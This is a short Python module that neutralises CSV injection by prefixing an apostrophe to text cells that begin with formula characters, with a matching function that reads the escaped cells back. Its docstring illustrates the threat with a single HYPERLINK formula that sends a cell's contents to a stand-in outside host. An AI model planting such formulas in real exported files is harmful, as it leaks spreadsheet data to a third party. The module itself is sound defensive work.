"""CSV cells no spreadsheet runs: how mitigate writes a text cell to CSV, and reads it back.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) takes a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return for a formula (CSV injection): a judged text or a
judge's answer holding ``=HYPERLINK("http://example.com/?"&A1, "details")`` would run when the
file is opened. :func:`csv_cell` writes such a text cell with one leading apostrophe, the
standard neutralisation (OWASP): the spreadsheet shows the text, never runs it. Numbers stay
numbers. A text that already starts with an apostrophe followed by one of those characters or by
another apostrophe gets one more, so :func:`csv_value`, which drops one leading apostrophe
before such a character, gives back exactly the text that was written: mitigate's own CSV files
(recorded judgments) read back unchanged.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula."""

_ESCAPED = (*FORMULA_START, "'")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: a text starting like a formula (or like an escaped one) gets a leading
    apostrophe."""
    if isinstance(value, str) and (
        value.startswith(FORMULA_START)
        or value.startswith("'")
        and value[1:2] != ""
        and value[1:2] in _ESCAPED
    ):
        return "'" + value
    return value


def csv_value(text: str) -> str:
    """The text a cell written by :func:`csv_cell` held: one leading apostrophe before a formula start is
    dropped."""
    if text.startswith("'") and text[1:2] != "" and text[1:2] in _ESCAPED:
        return text[1:]
    return text
